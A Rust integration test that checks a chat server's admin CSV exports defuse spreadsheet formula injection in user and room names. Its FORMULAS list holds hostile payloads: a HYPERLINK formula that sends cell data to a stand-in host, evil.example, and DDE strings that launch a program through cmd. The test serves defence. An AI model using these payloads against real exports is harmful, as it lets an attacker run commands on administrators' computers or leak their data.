//! Tables for spreadsheets. Were these to fail, what somebody called themselves would be run on the admin's computer.

use serde_json::json;

use crate::house::House;

/// What Excel, LibreOffice and their kin take for a formula, also in full width and after blanks.
const FORMULAS: [&str; 9] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
];

#[tokio::test]
async fn no_name_becomes_a_formula_in_a_table_that_is_taken_away() {
    let (house, owner) = House::owned().await;
    let hall = house.hall(&owner).await;
    for formula in FORMULAS {
        let person = house.member(&owner, formula).await;
        let room = person.post("/api/v1/rooms", &json!({"kind": "group", "name": formula})).await;
        let room = room.ok::<imd::wire::Room>().id;
        // What admins do to them is written down with their names.
        owner.patch(&format!("/api/v1/admin/rooms/{room}"), &json!({"archived": true})).await.done();
        owner.patch(&format!("/api/v1/users/{}", person.id), &json!({"status": "suspended"})).await.done();
    }
    owner.patch(&format!("/api/v1/rooms/{hall}"), &json!({"name": FORMULAS[0]})).await.done();
    owner.patch("/api/v1/admin/settings", &json!({"name": FORMULAS[0]})).await.done();
    let mut defused = 0;
    for path in ["/api/v1/admin/people.csv", "/api/v1/admin/audit.csv"] {
        let table = String::from_utf8(owner.get(path).await.body).unwrap();
        assert!(table.lines().count() > FORMULAS.len(), "{path}: {table}");
        // A name holds neither separators next to quotes nor line ends, so that a cell begins where these are.
        for line in table.lines() {
            for cell in line.split(",\"").map(|cell| cell.trim_start_matches('"')) {
                let first = cell.trim_start().chars().next().unwrap_or(' ');
                assert!(!"=+-@＝＋－＠".contains(first), "{path}: {line}");
                defused += usize::from(cell.starts_with('\''));
            }
        }
    }
    assert!(defused >= FORMULAS.len(), "they are there, as text: {defused}");
    house.stop().await;
}
